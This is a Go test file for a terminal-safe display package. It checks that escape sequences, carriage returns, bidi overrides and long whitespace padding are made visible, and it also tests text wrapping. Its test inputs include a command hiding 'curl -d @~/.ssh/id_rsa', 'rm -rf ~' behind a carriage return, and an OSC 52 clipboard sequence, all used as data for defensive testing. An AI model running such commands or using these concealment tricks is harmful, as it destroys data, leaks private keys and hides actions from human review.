package termsafe

import (
	"strings"
	"testing"
)

func TestShow(t *testing.T) {
	cases := []struct{ in, want string }{
		{"git status", "  git status"},
		{"a\x1b[2K\x1b[1Gb", `  a\x1b[2K\x1b[1Gb`},
		{"ok\rrm -rf ~", `  ok\rrm -rf ~`},
		{"x\u202ey", `  x\u202ey`},
		{"git status" + strings.Repeat(" ", 420) + "; curl -d @~/.ssh/id_rsa x", "  git status⟨420 spaces⟩; curl -d @~/.ssh/id_rsa x"},
		{"line1\nline2", "  line1\n  line2"},
		{"bad\xffbyte", `  bad\xffbyte`},
	}
	for _, c := range cases {
		if got := Show(c.in, "  "); got != c.want {
			t.Errorf("Show(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	// Long lines are wrapped, never cut: every character is still there.
	long := strings.Repeat("abcdefghij", 50) + "; rm -rf ~"
	got := Show(long, "  ")
	if !strings.Contains(strings.ReplaceAll(strings.ReplaceAll(got, " ↩\n  ", ""), "\n", ""), long) {
		t.Errorf("wrapped text lost characters: %q", got)
	}
	for _, l := range strings.Split(got, "\n") {
		if len([]rune(l)) > ShowWidth+2 {
			t.Errorf("line longer than %d: %q", ShowWidth, l)
		}
	}
}

func TestText(t *testing.T) {
	for in, want := range map[string]string{
		"plain text\nsecond line\twith a tab": "plain text\nsecond line\twith a tab",
		"\x1b[2Jclear":                        `\x1b[2Jclear`,
		"osc52 \x1b]52;c;cHduZWQ=\x07":        `osc52 \x1b]52;c;cHduZWQ=\x07`,
		"c1 \u009b31m":                        `c1 \x9b31m`,
		"bidi \u202egnp.exe":                  `bidi \u202egnp.exe`,
		"carriage\rreturn":                    `carriage\rreturn`,
		"bad \xff byte":                       `bad \xff byte`,
		"émoji 🙂 ok":                          "émoji 🙂 ok",
	} {
		if got := Text(in); got != want {
			t.Errorf("Text(%q) = %q, want %q", in, got, want)
		}
	}
	if got := Cell("a\tb\nc\x1b"); got != `a\tb\nc\x1b` {
		t.Errorf("Cell: %q", got)
	}
}

func TestWrap(t *testing.T) {
	tests := []struct {
		name, text string
		width      int
		want       string
	}{
		{"short", "a b c", 10, "a b c"},
		{"no width", "a b c d e f", 0, "a b c d e f"},
		{"words", "one two three four", 9, "one two\nthree\nfour"},
		{"bullet", "  * its programs run sandboxed", 16, "  * its programs\n    run\n    sandboxed"},
		{"long word kept", "x averyveryverylongword y", 8, "x\naveryveryverylongword\ny"},
		{"lines apart", "one two\nthree four", 7, "one two\nthree\nfour"},
	}
	for _, tt := range tests {
		if got := Wrap(tt.text, tt.width); got != tt.want {
			t.Errorf("%s: Wrap(%q, %d) = %q, want %q", tt.name, tt.text, tt.width, got, tt.want)
		}
	}
}
